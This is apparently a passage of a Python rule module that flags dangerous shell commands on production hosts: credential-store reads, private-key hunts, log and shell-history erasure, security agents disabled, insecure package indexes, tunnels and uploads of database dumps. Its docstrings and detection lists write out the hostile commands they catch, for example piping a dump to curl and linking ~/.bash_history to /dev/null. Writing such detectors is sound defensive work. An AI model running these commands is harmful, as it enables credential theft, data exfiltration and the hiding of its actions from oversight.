"""Structural rules for a production host: its services, its credential stores, its files.

:func:`judge_host` receives the real executable (after ``_shell`` has
unwrapped ``sudo``, ``sh -c``, variables and quoting) and its words, like
:func:`._shell_ops.judge_operator`, and names the check the command breaks:

* ``shell:service-stop`` - a service taken down: ``systemctl`` ``stop`` /
  ``disable`` / ``mask`` / ``kill`` / ``isolate``, ``service NAME stop``,
  ``rc-service``, ``update-rc.d ... disable|remove``, ``chkconfig NAME off``,
  ``sv down``, ``supervisorctl stop``, ``pm2 stop|delete|kill``, ``launchctl
  unload|bootout|disable``, ``sc stop|delete``, ``net stop``, a server's own
  stop command (``nginx -s stop``, ``apachectl stop``, ``pg_ctl stop``,
  ``mysqladmin shutdown``) and ``pkill`` / ``killall`` of a server daemon.
  Status, start, restart and reload stay allowed: they leave the service up.
  ``kill PID`` is not judged: a process number names no service;
* ``shell:credential-store`` - secrets read out of the operating system's
  store: macOS ``security find-generic-password -w`` / ``-g`` (and
  ``find-internet-password``), ``dump-keychain -d``, ``export`` of keys;
  ``secret-tool lookup``; ``kwallet-query -r``; ``reg save`` of the SAM,
  SECURITY or SYSTEM hive; a dump of ``lsass``; a stored secret's value
  printed from a cluster, cloud or password manager (``kubectl get secret
  -o yaml``, ``aws secretsmanager get-secret-value``, ``gcloud secrets
  versions access``, ``az keyvault secret show``, ``vault kv get``, ``op
  read``, ``bw get password``) - listing and describing stay allowed;
* ``shell:credential-search`` - a hunt for private keys and credential files:
  ``find`` whose name pattern is a key or credential file (``*.pem``,
  ``id_rsa``, ``.git-credentials``...) from ``/`` or a home directory, or
  with ``-exec`` printing or sending what it finds; ``grep -r`` for a private
  key marker (``BEGIN RSA PRIVATE KEY``) from ``/`` or a home directory, or
  printing the lines after it; ``locate`` of a key name;
* ``shell:sync-delete`` - ``rsync --delete`` (any ``--del*``) onto ``/``, a
  home or a system directory, from a directory the script has just created
  (``mkdir -p /tmp/empty && rsync -a --delete /tmp/empty/ /srv/data/``: it
  is empty, so everything in the target goes), from ``$(mktemp -d)``, or with
  every file excluded;
* ``shell:audit-tamper`` - audit or logging turned off, or its record erased:
  ``auditctl -D`` / ``-e 0`` / ``-d`` / ``-W``; a cloud's audit service
  stopped or disabled (``aws cloudtrail stop-logging``, ``guardduty
  update-detector --no-enable``, ``securityhub disable-security-hub``,
  ``gcloud logging sinks update --disabled``, ``gcloud services disable
  logging.googleapis.com``, ``az security pricing ... --tier free``);
  ``journalctl --vacuum-*`` down to under a day, a megabyte or one file; a
  security log or a shell history deleted, truncated to nothing, replaced by
  ``/dev/null`` or edited in place (``rm /var/log/auth.log``, ``truncate -s 0
  /var/log/audit/audit.log``, ``ln -sf /dev/null ~/.bash_history``, ``sed -i
  '/agent/d' /var/log/syslog``; the redirect ``> /var/log/wtmp`` is judged with
  the redirections);
  ``history -c`` / ``-d``, ``set +o history``; ``wevtutil cl``, ``auditpol
  /clear``, ``fsutil usn deletejournal``. Reading logs, ``--vacuum-time=2weeks`` and emptying an
  application's own log stay allowed;
* ``shell:defence-off`` (shared with :mod:`._shell_ops`) - a security agent
  killed (``pkill falco``, ``killall osqueryd``), stopped through its own
  control (``wazuh-control stop``, ``aa-teardown``, ``mdatp config
  real-time-protection --value disabled``) or its package removed (``apt-get
  purge falcon-sensor``);
* ``shell:untrusted-index`` - a package tool (``pip``, ``python -m pip``,
  ``uv``, ``pipx``, ``poetry``, ``npm``, ``pnpm``, ``yarn``, ``gem``...) given
  an index, registry or package address over plain ``http://`` or as a bare IP
  address (``pip install -i http://203.0.113.61/simple/ x``, ``npm config set
  registry http://...``); a loopback mirror (``http://localhost:4873``) stays
  allowed.

:func:`erases_log` names the security logs, Windows event log files and history
files, for the redirections (``: > /var/log/auth.log``) and for file actions
(a delete is ``path:data-delete``, a write ``path:log-tamper``);
:func:`judge_assignment` judges a shell variable's assignment or ``unset``
(``HISTFILE=/dev/null``, ``PIP_INDEX_URL=http://...``), set alone, exported or
given to one command (``VAR=x cmd``, ``env VAR=x cmd``).

:func:`sends_dump` finds a pipeline from a database dump to a network client
(``pg_dumpall | curl -T -``): ``shell:exfiltration``.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Collection, Sequence

from ._path import canonical_paths
from ._shell_ops import (
    _GLOBAL_VALUES,
    _PUBLISH,
    SECURITY_AGENTS,
    _option_values,
    _opts,
    _positionals,
)

__all__ = [
    "HOST_CHECKS",
    "erases_log",
    "hunts_keys",
    "judge_assignment",
    "judge_host",
    "sends_dump",
    "sync_deletes",
]

#: Check id -> reason.
HOST_CHECKS: dict[str, str] = {
    "shell:service-stop": "service stopped, disabled or killed (takes it down on the host)",
    "shell:credential-store": "secrets read from a credential store (keychain, SAM, vaults)",
    "shell:credential-search": "filesystem searched for private keys or credential files",
    "shell:sync-delete": "directory emptied by rsync --delete (empty source or system target)",
    "shell:audit-tamper": "audit or logging turned off, or logs or shell history erased",
    "shell:untrusted-index": "packages from an index over plain http or a bare IP address",
    "shell:tunnel": "a tunnel opening this host to the internet (ssh -R, ngrok, cloudflared)",
    "shell:data-upload": "a backup, dump or database file sent off the host (review)",
}

_SYSTEMCTL_DOWN = frozenset({"stop", "disable", "mask", "kill", "isolate"})
_SYSTEMCTL_VALUES = frozenset(
    {"-H", "--host", "-M", "--machine", "-t", "--type", "-s", "--signal", "--state", "-p",
     "--property", "--kill-whom", "-n", "--lines", "-o", "--output", "--root", "--job-mode"}
)  # fmt: skip
#: Tool -> its subcommands that take a service down (the subcommand is the first positional).
_SERVICE_DOWN: dict[str, frozenset[str]] = {
    "rc-service": frozenset({"stop", "zap"}),
    "sv": frozenset({"down", "stop", "force-stop", "force-shutdown", "exit", "kill"}),
    "supervisorctl": frozenset({"stop", "remove", "shutdown"}),
    "pm2": frozenset({"stop", "delete", "kill", "del"}),
    "launchctl": frozenset({"unload", "bootout", "disable", "remove", "kill"}),
    "sc": frozenset({"stop", "delete"}),
    "sc.exe": frozenset({"stop", "delete"}),
    "net": frozenset({"stop"}),
    "net.exe": frozenset({"stop"}),
    "apachectl": frozenset({"stop", "graceful-stop"}),
    "apache2ctl": frozenset({"stop", "graceful-stop"}),
    "pg_ctl": frozenset({"stop", "kill"}),
    "pg_ctlcluster": frozenset(),  # pg_ctlcluster VERSION NAME stop: checked below
    "mysqladmin": frozenset({"shutdown"}),
    "rabbitmqctl": frozenset({"stop", "shutdown", "stop_app"}),
}
#: Server daemons: ``pkill`` / ``killall`` of one takes the service down.
_DAEMONS = frozenset(
    {"nginx", "httpd", "apache2", "postgres", "postmaster", "mysqld", "mariadbd", "mongod",
     "redis-server", "sshd", "dockerd", "containerd", "kubelet", "etcd", "haproxy", "caddy",
     "traefik", "envoy", "php-fpm", "gunicorn", "uwsgi", "memcached", "rabbitmq-server",
     "elasticsearch", "named", "cron", "crond", "systemd", "init", "kafka", "zookeeper",
     "consul", "vault", "nomad", "openvpn", "squid", "lighttpd", "tomcat", "jenkins"}
)  # fmt: skip
# Signals that reload or probe a daemon rather than stop it.
_GENTLE_SIGNALS = frozenset({"hup", "sighup", "1", "usr1", "sigusr1", "usr2", "sigusr2", "0",
                             "winch", "sigwinch", "cont", "sigcont"})  # fmt: skip

_KEYCHAIN_READ = frozenset({"find-generic-password", "find-internet-password"})
_K8S_SECRETS = frozenset({"secret", "secrets", "sealedsecret", "sealedsecrets"})
_DATA_FORMATS = frozenset({"yaml", "json", "jsonpath", "go-template", "template", "custom-columns"})
_MANAGER_VALUES = frozenset(
    {"-n", "--namespace", "--context", "--region", "--profile", "--project", "--vault",
     "--subscription", "--secret-id", "--name", "--secret", "--address", "-field", "-format"}
)  # fmt: skip
#: Tool -> its subcommand words that print a stored secret's value.
_SECRET_READS: dict[str, frozenset[tuple[str, ...]]] = {
    "aws": frozenset({("secretsmanager", "get-secret-value"), ("ssm", "get-parameter"),
                      ("ssm", "get-parameters"), ("ssm", "get-parameters-by-path")}),
    "gcloud": frozenset({("secrets", "versions", "access")}),
    "az": frozenset({("keyvault", "secret", "show"), ("keyvault", "secret", "download")}),
    "vault": frozenset({("kv", "get"), ("read",), ("print", "token")}),
    "op": frozenset({("read",)}),
    "bw": frozenset({("get", "password"), ("get", "item")}),
}  # fmt: skip
# A CLI printing the credential it signs in with (a bearer token is as good as a password).
_TOKEN_PRINTS: dict[str, frozenset[tuple[str, ...]]] = {
    "gcloud": frozenset({("auth", "print-access-token"), ("auth", "print-identity-token"),
                         ("auth", "application-default", "print-access-token")}),
    "az": frozenset({("account", "get-access-token")}),
    "aws": frozenset({("configure", "export-credentials"), ("ecr", "get-login-password"),
                      ("codeartifact", "get-authorization-token")}),
    "gh": frozenset({("auth", "token")}),
}  # fmt: skip
# Backslashes may be gone after shell quote removal (HKLM\\SAM -> HKLMSAM).
_HIVES = re.compile(r"^(?:hklm|hkey_local_machine)\\*(?:sam|security|system)\\*$", re.I)

#: A name pattern for a private key or credential file (``*.pem``, ``id_rsa*``, ``.netrc``).
_KEY_NAME = re.compile(
    r"(?:^|[/*.])(?:id_(?:rsa|dsa|ecdsa|ed25519|\*)(?:\*|\.\*)?"
    r"|(?:\*|\.\*)?\.(?:pem|key|p12|pfx|jks|keystore|kdbx|ppk|gpg)"
    r"|\.?(?:netrc|pgpass|git-credentials)|credentials(?:\.json)?|wallet\.dat"
    r"|\*?private\*?(?:key)?\*?)\$?$",
    re.IGNORECASE,
)
#: A private key's marker in a file's text (what ``grep -r`` looks for).
_KEY_MARKER = re.compile(
    r"private[ _.\\-]*key|begin [a-z ]*private|aws_secret_access_key", re.IGNORECASE
)
#: A PEM private key's first line: the lines after it are the key.
_PEM_HEADER = re.compile(r"begin [a-z ]*private", re.IGNORECASE)
_HUNT_ROOTS = frozenset({"/", "~", "/home", "/users", "/root", "c:", "c:/", "c:/users"})
# Commands that print or send a file's content: ``find -exec cat {}``.
_READERS = frozenset(
    {"cat", "head", "tail", "less", "more", "strings", "base64", "xxd", "od", "hexdump", "cp",
     "scp", "curl", "wget", "nc", "ncat", "tar", "zip", "gpg", "type", "grep", "rsync"}
)  # fmt: skip
_FIND_VALUES = frozenset(
    {"-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex"}
)
_GREP_VALUES = frozenset(
    {"-e", "--regexp", "-f", "--file", "-m", "--max-count", "--include", "--exclude",
     "--exclude-dir", "-A", "-B", "-C", "--context", "-g", "--glob", "-t", "--type"}
)  # fmt: skip
_GREPS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "findstr", "git"})
_LOCATES = frozenset({"locate", "plocate", "mlocate", "slocate"})
_RSYNC_VALUES = frozenset(
    {"-e", "--rsh", "-f", "--filter", "--exclude", "--include", "--exclude-from", "--include-from",
     "--files-from", "--port", "--password-file", "--log-file", "--chown", "--chmod", "-B",
     "--block-size", "--backup-dir", "--suffix", "-T", "--temp-dir", "--partial-dir",
     "--compare-dest", "--link-dest", "--copy-dest", "--max-size", "--min-size", "--timeout",
     "--bwlimit", "-M", "--remote-option", "--out-format", "--info", "--debug", "--usermap",
     "--groupmap", "--iconv", "--max-delete", "--modify-window", "--contimeout"}
)  # fmt: skip
_SYNC_TARGETS = frozenset(
    {"/", "~", "/bin", "/boot", "/etc", "/home", "/lib", "/lib64", "/opt", "/root", "/sbin",
     "/srv", "/usr", "/var", "/var/lib", "/users"}
)  # fmt: skip


def _root(path: str) -> str:
    return canonical_paths(path.replace("\\", "/"))[0].rstrip("/").lower() or "/"


def _stops_service(name: str, args: Sequence[str]) -> bool:
    if name == "systemctl":
        words = _positionals(args, _SYSTEMCTL_VALUES)
        return bool(words) and words[0] in _SYSTEMCTL_DOWN
    if name == "service":
        words = _positionals(args)
        return len(words) > 1 and words[1] in ("stop", "force-stop")
    if name in ("update-rc.d", "chkconfig"):
        words = [w.lower() for w in _positionals(args)]
        return any(w in ("disable", "remove", "off", "--del") for w in words[1:]) or (
            "--del" in args
        )
    if name == "rc-update":
        words = _positionals(args)
        return bool(words) and words[0] in ("del", "delete")
    if name in ("nginx", "openresty"):
        return any(a == "-s" and b in ("stop", "quit") for a, b in itertools.pairwise(args))
    if name == "pg_ctlcluster":
        return any(w in ("stop", "kill") for w in _positionals(args))
    if name in ("pkill", "killall"):
        return not _DAEMONS.isdisjoint(_kill_targets(args))
    downs = _SERVICE_DOWN.get(name)
    if downs is None:
        return False
    words = [w.lower() for w in _positionals(args, frozenset({"-n", "--namespace"}))]
    return bool(words) and words[0] in downs


def _kill_targets(args: Sequence[str]) -> set[str]:
    """The process names ``pkill`` / ``killall`` stops (none for a reload or probe signal)."""
    targets: list[str] = []
    skip = False
    for index, arg in enumerate(args):
        if skip:
            skip = False
            continue
        lower = arg.lower()
        if lower in ("-s", "--signal"):
            if index + 1 < len(args) and args[index + 1].lower() in _GENTLE_SIGNALS:
                return set()
            skip = True
        elif lower.startswith("-") and lower.lstrip("-") in _GENTLE_SIGNALS:
            return set()
        elif lower in ("-u", "-g", "-t", "-p", "-P", "--user", "--group"):
            skip = True
        elif not lower.startswith("-"):
            targets.append(lower)
    return {t.split()[0].rsplit("/", 1)[-1] for t in targets if t.strip()}


def _reads_store(name: str, args: Sequence[str]) -> bool:
    if name == "security":
        words = _positionals(args)
        if not words:
            return False
        opts = _opts(args)
        if words[0] in _KEYCHAIN_READ:
            return bool(opts & {"-w", "-g"})
        if words[0] == "dump-keychain":
            return "-d" in opts
        if words[0] == "export":
            kinds = [b for a, b in itertools.pairwise(args) if a == "-t"]
            return not kinds or any(k not in ("certs", "pubKeys") for k in kinds)
        return False
    if name in _MANAGERS:
        return _reads_secret_manager(name, args)
    if name == "secret-tool":
        return bool(args) and args[0] == "lookup"
    if name == "kwallet-query":
        return bool(_opts(args) & {"-r", "--read-password"})
    if name in ("reg", "reg.exe"):
        words = _positionals(args)
        return len(words) > 1 and words[0].lower() == "save" and bool(_HIVES.match(words[1]))
    if name in ("procdump", "procdump64", "rundll32", "rundll32.exe"):
        return any("lsass" in a.lower() for a in args)
    return False


def _reads_secret_manager(name: str, args: Sequence[str]) -> bool:
    """A secret's value printed from a cluster or cloud store (``kubectl get secret -o yaml``)."""
    words = _positionals(args, _MANAGER_VALUES)
    if name in ("kubectl", "oc"):
        shows = any(
            a in ("-o", "--output") and b.split("=", 1)[0] in _DATA_FORMATS
            for a, b in itertools.pairwise(args)
        ) or any(a.startswith(("-o=", "--output=", "-ojson", "-oyaml", "-ojsonpath")) for a in args)
        kinds = re.split(r"[/,]", words[1]) if len(words) > 1 else []
        if words[:2] == ["config", "view"]:
            return "--raw" in args  # the kubeconfig's client keys and tokens, unredacted
        return words[:1] == ["get"] and not _K8S_SECRETS.isdisjoint(kinds) and shows
    if words[:1] == ["ssm"] and "--with-decryption" not in args:
        return False  # plain parameters are configuration
    reads = _READS[name]
    return any(tuple(words[:n]) in reads for n in (1, 2, 3))


#: Files that hold a system's data in bulk: backups, database dumps and files, data dirs.
_DATA_FILE = re.compile(
    r"(?:^|/)(?:var/backups|var/lib/(?:postgresql|pgsql|mysql|mariadb|mongodb|redis)|backups?)"
    r"(?:/|$)"
    r"|\.(?:sql|dump|pgdump|bak|db|sqlite3?|mdb|bson|rdb)(?:\.(?:gz|bz2|xz|zst|zip|7z))?$"
    r"|(?:backup|dump)[^/]*\.(?:tar(?:\.\w+)?|tgz|zip|gz|7z)$",
    re.IGNORECASE,
)
_UPLOAD_FLAGS = frozenset({"-T", "--upload-file"})
_POST_FLAGS = frozenset({"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F",
                         "--form"})  # fmt: skip


def _remote(target: str) -> bool:
    """``host:path``, ``user@host:path``, ``remote:path`` or a URL: not this host's file."""
    if "://" in target:
        return True
    head, colon, _ = target.partition(":")
    return bool(colon) and bool(head) and "/" not in head and len(head) > 1


def _uploads_data(name: str, args: Sequence[str]) -> bool:
    """A backup, dump or database file copied to another host (``scp /var/backups/db.sql.gz
    u@203.0.113.7:``, ``curl -T prod.dump https://transfer.sh/``, ``rclone copy``, ``aws s3
    cp`` to a bucket). Where it goes may be the team's own store: a review, not a deny."""
    if name in ("scp", "rsync", "rclone", "aws", "gsutil"):
        words = _positionals(args, _GLOBAL_VALUES)
        if name == "rclone":
            words = words[1:] if words[:1] in (["copy"], ["copyto"], ["sync"], ["move"]) else []
        elif name == "aws":
            words = words[2:] if words[:2] in (["s3", "cp"], ["s3", "mv"], ["s3", "sync"]) else []
        elif name == "gsutil":
            words = words[1:] if words[:1] in (["cp"], ["mv"], ["rsync"]) else []
        if len(words) < 2 or not _remote(words[-1]):
            return False
        return any(_DATA_FILE.search(w) and not _remote(w) for w in words[:-1])
    if name == "curl":
        files = [
            b.split("@", 1)[1] if "@" in b else b
            for a, b in itertools.pairwise(args)
            if a in _UPLOAD_FLAGS or (a in _POST_FLAGS and "@" in b)
        ]
        return any(_DATA_FILE.search(f) for f in files)
    if name == "wget":
        return any(
            a.startswith(("--post-file=", "--body-file=")) and _DATA_FILE.search(a.split("=", 1)[1])
            for a in args
        )
    return False


#: A tunnel client's subcommands that open nothing: help, sign-in, configuration.
_TUNNEL_CHORES = frozenset(
    {"help", "version", "update", "login", "logout", "authtoken", "config", "completion"}
)


def _opens_tunnel(name: str, args: Sequence[str]) -> bool:
    """``ssh -R`` (a port on the far host forwarded back here), a tunnel client run
    (``ngrok tcp 22``, ``cloudflared tunnel --url``, ``chisel client``), ``tailscale funnel``.
    Their help, version and login stay allowed."""
    if name == "ssh":
        # -R alone, in a cluster (-fNR), or as the option RemoteForward (-o, or -oRemote...).
        return any(
            (a.startswith("-") and not a.startswith("--") and "R" in a[1:])
            or a.lower().startswith("remoteforward")
            for a in args
        )
    if name == "tailscale":
        return _positionals(args)[:1] == ["funnel"]
    if name not in _TUNNELS:
        return False
    words = _positionals(args)
    return not (_opts(args) & {"-h", "--help", "-v", "--version"}) and not (
        words and words[0] in _TUNNEL_CHORES
    )


def _greps_keys(name: str, args: Sequence[str]) -> bool:
    if name == "git" and args[:1] != ["grep"]:
        return False
    words = _positionals(args, _GREP_VALUES)
    if name == "git":
        words = words[1:]
    patterns = [b for a, b in itertools.pairwise(args) if a in ("-e", "--regexp")]
    if not patterns and words:
        patterns, words = words[:1], words[1:]
    if not any(_KEY_MARKER.search(p) for p in patterns):
        return False
    opts = _opts(args)
    context = (
        bool(opts & {"-A", "-C", "--context"}) or any(re.fullmatch(r"-[AC]\d+", a) for a in args)
    ) and any(_PEM_HEADER.search(p) for p in patterns)
    recursive = name in ("rg", "ag", "ack") or bool(opts & {"-r", "-R", "--recursive", "/s"})
    return context or (recursive and any(_root(w) in _HUNT_ROOTS for w in words))


def hunts_keys(args: Sequence[str], executes: Collection[str]) -> bool:
    """``find ARGS`` searching ``/`` or a home for key files, or printing the keys it finds.

    ``executes``: the executables its ``-exec`` / ``-ok`` clauses run.
    """
    patterns = [b for a, b in itertools.pairwise(args) if a.lower() in _FIND_VALUES]
    if not any(_KEY_NAME.search(p.replace("\\", "")) for p in patterns):
        return False
    roots = []
    for arg in args:
        if arg.startswith(("-", "(", "!")):
            break
        roots.append(arg)
    return any(_root(r) in _HUNT_ROOTS for r in roots) or bool(_READERS & set(executes))


def sync_deletes(args: Sequence[str], created: Collection[str], fresh: bool) -> bool:
    """``rsync --delete`` that empties its target: ``fresh`` when a source is ``$(mktemp -d)``."""
    if not any(a.startswith("--del") for a in args):
        return False
    words = _positionals(args, _RSYNC_VALUES)
    if len(words) < 2:
        return False
    *sources, target = words
    if ":" not in target.split("/", 1)[0] and _root(target) in _SYNC_TARGETS:
        return True
    excluded = any(
        (a in ("--exclude", "-f", "--filter") and b in ("*", "- *", "*/", "**"))
        for a, b in itertools.pairwise(args)
    ) or any(a in ("--exclude=*", "--exclude=**") for a in args)
    return fresh or excluded or any(s.rstrip("/") in created for s in sources)


# -- audit and logging --------------------------------------------------------------------

#: Security logs (rotations included) and shell histories: erasing one hides what was done.
_ERASABLE_LOG = re.compile(
    r"^/var/log/(?:(?:auth\.log|secure|messages|syslog|kern\.log|sudo\.log|wtmp|btmp|lastlog"
    r"|faillog|audit\.log)(?:[.-]\d+)?(?:\.gz)?|audit(?:/.*)?|journal(?:/.*)?|\*(?:\.log)?)$"
    r"|^/(?:var/)?run/utmp$|(?:^|/)\.(?:bash_|zsh_|sh_|ksh_)?history$|(?:^|/)fish_history$"
    r"|^/windows/system32/winevt/logs/"
)
#: Options of ``sed`` / ``perl`` that take the next word (a script, a file).
_SED_VALUES = frozenset({"-e", "--expression", "-f", "--file", "-l", "--line-length"})
_PERL_VALUES = frozenset({"-e", "-E"})
#: Cloud audit services (aws): a verb that stops or disables one turns auditing off.
_AWS_AUDIT = frozenset(
    {"cloudtrail", "guardduty", "configservice", "securityhub", "macie2", "inspector2",
     "inspector", "detective", "access-analyzer"}
)  # fmt: skip
_AWS_AUDIT_OFF = re.compile(r"^(?:stop|disable|disassociate|batch-disable)(?:-|$)")
_AWS_GLOBAL_NO = frozenset(
    {"--no-cli-pager", "--no-paginate", "--no-verify-ssl", "--no-sign-request",
     "--no-cli-auto-prompt"}
)  # fmt: skip
_GCP_AUDIT_APIS = ("logging.", "monitoring.", "securitycenter.", "cloudaudit.")
#: journalctl time-span units in seconds (systemd.time: ``m`` is a minute, ``M`` a month).
_SPAN_UNITS: dict[str, float] = {
    "": 1, "us": 1e-6, "usec": 1e-6, "ms": 1e-3, "msec": 1e-3, "s": 1, "sec": 1, "second": 1,
    "seconds": 1, "m": 60, "min": 60, "minute": 60, "minutes": 60, "h": 3600, "hr": 3600,
    "hour": 3600, "hours": 3600, "d": 86400, "day": 86400, "days": 86400, "w": 604800,
    "week": 604800, "weeks": 604800, "M": 2629800, "month": 2629800, "months": 2629800,
    "y": 31557600, "year": 31557600, "years": 31557600,
}  # fmt: skip
_SPAN_PART = re.compile(r"(\d+(?:\.\d+)?)\s*([A-Za-z]*)")
_SIZE = re.compile(r"^(\d+(?:\.\d+)?)([KMGTPE]?)i?B?$", re.IGNORECASE)


def erases_log(path: str) -> bool:
    """True for a security log, a Windows event log file or a shell history
    (``/var/log/auth.log``, ``C:\\Windows\\System32\\winevt\\Logs\\Security.evtx``,
    ``~/.bash_history``): deleting, emptying or replacing one hides what was done."""
    lowered = path.lower()
    if "log" not in lowered and "history" not in lowered and "utmp" not in lowered:
        return False
    return _ERASABLE_LOG.search(canonical_paths(path.replace("\\", "/"))[0]) is not None


def _in_place(args: Sequence[str], glued: str) -> bool:
    """``sed -i`` / ``-i.bak`` / ``--in-place``, ``perl -pi -e``: the file is rewritten.
    ``glued``: the short options whose value may follow them in the same word."""
    for arg in args:
        if arg == "--":
            return False
        if arg.startswith("--in-place"):
            return True
        if arg.startswith("-") and not arg.startswith("--"):
            for char in arg[1:]:
                if char == "i":
                    return True
                if char in glued or not char.isalpha():
                    break  # the rest is the option's value (-es/a/b/i is a script)
    return False


def _span_seconds(value: str) -> float:
    parts = _SPAN_PART.findall(value)
    if not parts or any(unit not in _SPAN_UNITS for _, unit in parts):
        return float("inf")  # unreadable: not judged small
    return sum(float(number) * _SPAN_UNITS[unit] for number, unit in parts)


def _size_bytes(value: str) -> float:
    match = _SIZE.match(value)
    if match is None:
        return float("inf")
    unit = match.group(2).upper()
    return float(match.group(1)) * (1024 ** ("KMGTPE".find(unit) + 1) if unit else 1)


def _vacuums_journal(args: Sequence[str]) -> bool:
    """``journalctl --vacuum-*`` that keeps under a day, a megabyte or one file."""
    if not any(a.startswith("--vacuum") for a in args):
        return False
    times = _option_values(args, "--vacuum-time")
    sizes = _option_values(args, "--vacuum-size")
    files = _option_values(args, "--vacuum-files")
    return (
        any(_span_seconds(v) < 86400 for v in times)
        or any(_size_bytes(v) <= 1024**2 for v in sizes)
        or any(v.isdigit() and int(v) <= 1 for v in files)
    )


def _zero_size(args: Sequence[str]) -> bool:
    return any(a in ("-s0", "--size=0") for a in args) or any(
        a in ("-s", "--size") and b == "0" for a, b in itertools.pairwise(args)
    )


def _cloud_audit_off(name: str, args: Sequence[str]) -> bool:
    """A cloud's audit or threat-detection service stopped or disabled."""
    words = _positionals(args, _GLOBAL_VALUES)
    if name == "aws":
        if len(words) < 2 or words[0] not in _AWS_AUDIT:
            return False
        verb = words[1]
        return bool(_AWS_AUDIT_OFF.match(verb)) or (
            verb.startswith("update-")
            and any(a.startswith("--no-") and a not in _AWS_GLOBAL_NO for a in args)
        )
    if name == "gcloud":
        if words[:2] == ["services", "disable"]:
            return any(w.startswith(_GCP_AUDIT_APIS) for w in words[2:])
        return words[:1] == ["logging"] and any(
            a in ("--disabled", "--disable-default-sink") or a.startswith("--disabled=t")
            for a in args
        )
    if name == "az" and words[:1] in (["monitor"], ["security"]):
        return any(
            v.lower() in ("false", "off", "free")
            for option in ("--enabled", "--auto-provision", "--tier")
            for v in _option_values(args, option)
        )
    return False


def _tampers_audit(name: str, args: Sequence[str]) -> bool:
    if name == "auditctl":  # rules deleted, watches removed, auditing disabled
        return bool(_opts(args) & {"-D", "-d", "-W"}) or any(
            a == "-e0" or (a == "-e" and b == "0") for a, b in itertools.pairwise([*args, ""])
        )
    if name == "journalctl":
        return _vacuums_journal(args)
    if name == "history":
        return bool(_opts(args) & {"-c", "-d"})
    if name == "set":
        return any(a == "+o" and b == "history" for a, b in itertools.pairwise(args))
    if name in ("rm", "unlink", "srm"):
        return any(erases_log(w) for w in _positionals(args))
    if name == "truncate":
        targets = _positionals(args, frozenset({"-s", "--size", "-r", "--reference"}))
        return _zero_size(args) and any(erases_log(t) for t in targets)
    if name == "tee":  # echo | tee /var/log/auth.log (without -a: the file is replaced)
        return not _opts(args) & {"-a", "--append"} and any(
            erases_log(w) for w in _positionals(args)
        )
    if name in ("sed", "perl"):  # sed -i '/agent/d' /var/log/syslog: lines removed in place
        values, glued = (_SED_VALUES, "efl") if name == "sed" else (_PERL_VALUES, "eEMmIxl")
        return _in_place(args, glued) and any(erases_log(w) for w in _positionals(args, values))
    if name in ("ln", "cp"):  # ln -sf /dev/null ~/.bash_history, cp /dev/null /var/log/wtmp
        words = _positionals(args, frozenset({"-t", "--target-directory", "-S", "--suffix"}))
        return len(words) == 2 and words[0] == "/dev/null" and erases_log(words[1])
    if name == "wevtutil":  # an event log cleared or disabled
        words = [w.lower() for w in _positionals(args)]
        disables = any(a.lower() in ("/e:false", "/enabled:false") for a in args)
        return words[:1] in (["cl"], ["clear-log"]) or (
            words[:1] in (["sl"], ["set-log"]) and disables
        )
    if name == "fsutil":  # the NTFS change journal deleted
        return [w.lower() for w in _positionals(args)[:2]] == ["usn", "deletejournal"]
    if name == "auditpol":
        return any(
            a.lower().startswith(("/clear", "/remove")) or a.lower().endswith(":disable")
            for a in args
        )
    if name in ("aws", "gcloud", "az"):
        return _cloud_audit_off(name, args)
    return False


# -- security agents ----------------------------------------------------------------------

#: A security agent's own control: -> the subcommand words that turn it off (empty: any run).
_AGENT_CONTROLS: dict[str, frozenset[str]] = {
    "wazuh-control": frozenset({"stop"}),
    "ossec-control": frozenset({"stop"}),
    "osqueryctl": frozenset({"stop"}),
    "sentinelctl": frozenset({"stop", "unload", "disable"}),
    "aa-teardown": frozenset(),
    "aa-disable": frozenset(),
}
#: Package managers -> the subcommands (or options) that remove a package.
_PKG_REMOVE: dict[str, frozenset[str]] = {
    "apt": frozenset({"remove", "purge", "autoremove"}),
    "apt-get": frozenset({"remove", "purge", "autoremove"}),
    "aptitude": frozenset({"remove", "purge"}),
    "yum": frozenset({"remove", "erase", "autoremove"}),
    "dnf": frozenset({"remove", "erase", "autoremove"}),
    "zypper": frozenset({"remove", "rm"}),
    "apk": frozenset({"del"}),
    "snap": frozenset({"remove"}),
    "dpkg": frozenset({"-r", "-P", "--remove", "--purge"}),
    "rpm": frozenset({"-e", "--erase"}),
    "pacman": frozenset({"-R"}),
}


def _agent_off(name: str, args: Sequence[str]) -> bool:
    """A security agent killed, stopped through its own control or uninstalled."""
    if name in ("pkill", "killall"):
        return not SECURITY_AGENTS.isdisjoint(_kill_targets(args))
    downs = _AGENT_CONTROLS.get(name)
    if downs is not None:
        return not downs or any(w in downs for w in _positionals(args)[:2])
    if name == "mdatp":
        return "real-time-protection" in args and "disabled" in args
    if name == "apparmor_parser":
        return bool(_opts(args) & {"-R", "--remove"})
    removes = _PKG_REMOVE.get(name)
    if removes is None:
        return False
    words = _positionals(args, frozenset({"-o", "-c", "-t", "--root", "--option"}))
    if not (removes & _opts(args) if name in ("dpkg", "rpm", "pacman") else removes & {*words[:1]}):
        return False
    return any(w.split("=", 1)[0].split(":", 1)[0] in SECURITY_AGENTS for w in words)


# -- package indexes ----------------------------------------------------------------------

_INSTALLERS = frozenset(
    {"pip", "pipx", "uv", "poetry", "pdm", "easy_install", "npm", "pnpm", "yarn", "npx", "bun",
     "gem", "bundle"}
)  # fmt: skip
_PIP = re.compile(r"^pip\d*(?:\.\d+)?$")
_SOURCE_URL = re.compile(
    r"^(?:(?:git|hg|svn|bzr)\+)?(https?)://(?:[^@/?#]*@)?(\[[0-9a-f:.]*\]|[^/:?#]*)", re.IGNORECASE
)
_IPV4 = re.compile(r"^\d{1,3}(?:\.\d{1,3}){3}$")


def _insecure_source(text: str) -> bool:
    """An index or package address over plain http, or a bare IP address; loopback excepted."""
    match = _SOURCE_URL.match(text)
    if match is None:
        return False
    scheme, host = match.group(1).lower(), match.group(2).lower()
    if host in ("localhost", "[::1]") or host.startswith("127."):
        return False
    return scheme == "http" or host.startswith("[") or _IPV4.match(host) is not None


def _untrusted_index(args: Sequence[str]) -> bool:
    """A package tool given an index, registry or package over http or a bare address."""
    for arg in args:
        if "://" not in arg:
            continue
        value = arg.partition("=")[2] if arg.startswith("-") else arg
        if _insecure_source(value):
            return True
    return False


